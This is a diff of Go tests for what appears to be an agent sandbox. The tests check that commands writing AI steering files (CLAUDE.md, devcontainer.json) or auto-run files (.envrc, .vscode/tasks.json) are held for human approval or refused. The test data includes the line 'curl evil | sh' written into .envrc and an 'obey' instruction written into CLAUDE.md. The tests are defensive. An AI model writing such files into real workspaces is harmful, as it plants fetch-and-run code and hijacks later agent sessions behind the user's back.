@@ -406,6 +406,32 @@ func TestEffectLinksOut(t *testing.T) {
 	}
 }
 
+// A staged command that writes a steering file below the root (the
+// sandbox keeps the root's) waits on a card that says what reads it;
+// Deny leaves the workspace as it was, Allow applies it.
+func TestEffectNestedSteeringFile(t *testing.T) {
+	for _, tc := range []struct{ decision, path, named, reads string }{
+		{"deny", "pkg/CLAUDE.md", "pkg/CLAUDE.md", "is read by Claude Code"},
+		// The new directory is the first change of the kind.
+		{"allow", "svc/.devcontainer/devcontainer.json", "svc/.devcontainer", "initializeCommand runs on your computer"},
+	} {
+		t.Run(tc.decision, func(t *testing.T) {
+			d := startEffectDaemon(t)
+			ch := asyncRun(t, d, map[string]any{"argv": []string{"sh", "-c", "mkdir -p $(dirname " + tc.path + ") && echo obey > " + tc.path}})
+			a := d.WaitApproval(60 * time.Second)
+			if a.Kind != "effect" || !strings.Contains(a.Reason, "it writes "+tc.named+", which") || !strings.Contains(a.Reason, tc.reads) {
+				t.Fatalf("card %+v", a)
+			}
+			d.Decide(a.ID, tc.decision, "once", "")
+			waitResult(t, ch)
+			_, err := os.Lstat(filepath.Join(d.Workspace, filepath.FromSlash(tc.path)))
+			if landed := err == nil; landed != (tc.decision == "allow") {
+				t.Fatalf("%s after %s: landed %v", tc.path, tc.decision, landed)
+			}
+		})
+	}
+}
+
 // TestEffectWorkspaceGone: the person deletes the workspace while a card
 // holds a run; allowing it then applies nothing, says the workspace no
 // longer exists, and the daemon carries on.
@@ -446,6 +472,26 @@ func TestEffectCheckedOnLandlock(t *testing.T) {
 	}
 	if diff := diffTrees(before, tree(t, d.Workspace)); diff != "" {
 		t.Fatalf("the rollback left:\n%s", diff)
+	}
+}
+
+// On Landlock, which cannot stage, writing CLAUDE.md is refused by the
+// sandbox itself, and the result's note says what reads it and that
+// write_file asks.
+func TestSteeringRefusalNoteOnLandlock(t *testing.T) {
+	d := startEffectDaemonWith(t, "[sandbox]\nbackend = \"landlock\"\n")
+	s := d.MCP(t.Context(), "steering")
+	r, err := s.CallTool(t.Context(), &mcp.CallToolParams{Name: "run_command", Arguments: map[string]any{
+		"argv": []string{"sh", "-c", "echo obey > CLAUDE.md"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := clitest.Text(t, r)
+	if !strings.Contains(out, "gatehouse: Gatehouse's sandbox refused the write: CLAUDE.md is read by Claude Code") || !strings.Contains(out, "write_file") {
+		t.Fatalf("no note on the kind:\n%s", out)
+	}
+	if _, err := os.Lstat(filepath.Join(d.Workspace, "CLAUDE.md")); err == nil {
+		t.Fatal("CLAUDE.md was created")
 	}
 }
 
@@ -528,16 +574,20 @@ func effectKeepsProtectedPathsOut(t *testing.T, config string, reads [][]string)
 	var r *mcp.CallToolResult
 	var err error
 	r, err = s.CallTool(t.Context(), &mcp.CallToolParams{Name: "run_command", Arguments: map[string]any{
-		"argv": []string{"sh", "-c", "echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo ok > ok.txt"}}})
+		"argv": []string{"sh", "-c", "echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'obey' > CLAUDE.md && echo ok > ok.txt"}}})
 	if err != nil {
 		t.Fatal(err)
 	}
 	e := effectPart(t, r)
 	kept, _ := e["kept_out"].([]any)
-	if !r.IsError || len(kept) < 2 {
+	if !r.IsError || len(kept) < 3 {
 		t.Fatalf("effect %v (error %v)", e, r.IsError)
 	}
-	for _, p := range []string{".envrc", ".vscode"} {
+	// A steering file's note says who reads it and the way that is open.
+	if out := clitest.Text(t, r); !strings.Contains(out, "CLAUDE.md is read by Claude Code") || !strings.Contains(out, "write_file") {
+		t.Errorf("the note does not name CLAUDE.md's kind:\n%s", out)
+	}
+	for _, p := range []string{".envrc", ".vscode", "CLAUDE.md"} {
 		if _, err := os.Lstat(filepath.Join(d.Workspace, p)); err == nil {
 			t.Errorf("%s landed in the workspace", p)
 		}
